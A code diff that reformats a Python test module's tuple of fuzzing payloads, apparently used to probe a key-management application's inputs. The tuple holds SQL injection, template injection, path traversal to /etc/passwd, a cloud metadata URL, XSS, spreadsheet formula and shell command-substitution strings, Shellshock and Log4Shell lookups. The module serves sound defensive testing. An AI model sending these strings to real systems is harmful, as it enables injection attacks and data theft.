@@ -17,13 +17,15 @@ from tollway.domain.identity import KeyKind
 from tollway.domain.people import Role
 
 PAYLOADS = (
-    "' OR '1'='1", "'; DROP TABLE keys; --", "1 UNION SELECT digest FROM keys", "') OR 1=1 --", "\" OR \"\"=\"", "%", "_",
-    "%%%%%%%%%%%%%%%%%%%%_", "*", "\\", "\\'", "{{7*7}}", "${7*7}", "{0.__class__}", "%(x)s", "%s%n", "<%= 7 %>",
-    "#{7}", "../../../../etc/passwd", "..\\..\\windows", "/etc/passwd", "file:///etc/passwd", "http://169.254.169.254/",
-    "\r\nset-cookie: a=b", "\r\n\r\n<html>", "\n", "\0", "a\0b", "\x1b[31m", "\u202e", "\ufeff", "\u2028", "é" * 300, "💣",
-    "\ud7ff", "a" * 5000, "<script>alert(1)</script>", "javascript:alert(1)", "=cmd|'/c calc'!A1", "`id`", "$(id)", "|id",
-    "() { :;}; id", "${jndi:ldap://x/}", "true", "null", "-1", "0", "1e400", "NaN", "9" * 30, "[]", "{}", '{"$ne":1}',
-    "2027-13-45", "0000-01-01", "9999-12-31T23:59:59+23:59", "😀" * 200, "ﷺ", "İ", "ß" * 90, "\u0000\u0001", " ", "",
+    "' OR '1'='1", "'; DROP TABLE keys; --", "1 UNION SELECT digest FROM keys", "') OR 1=1 --",
+    "\" OR \"\"=\"", "%", "_", "%%%%%%%%%%%%%%%%%%%%_", "*", "\\", "\\'", "{{7*7}}", "${7*7}",
+    "{0.__class__}", "%(x)s", "%s%n", "<%= 7 %>", "#{7}", "../../../../etc/passwd", "..\\..\\windows",
+    "/etc/passwd", "file:///etc/passwd", "http://169.254.169.254/", "\r\nset-cookie: a=b", "\r\n\r\n<html>",
+    "\n", "\0", "a\0b", "\x1b[31m", "\u202e", "\ufeff", "\u2028", "é" * 300, "💣", "\ud7ff", "a" * 5000,
+    "<script>alert(1)</script>", "javascript:alert(1)", "=cmd|'/c calc'!A1", "`id`", "$(id)", "|id",
+    "() { :;}; id", "${jndi:ldap://x/}", "true", "null", "-1", "0", "1e400", "NaN", "9" * 30, "[]", "{}",
+    '{"$ne":1}', "2027-13-45", "0000-01-01", "9999-12-31T23:59:59+23:59", "😀" * 200, "ﷺ", "İ", "ß" * 90,
+    "\u0000\u0001", " ", "",
 )  # fmt: skip
 DRAWN = 6
 """Of the payloads, so many for each place in a usual run: others in each place, the same ones each time."""
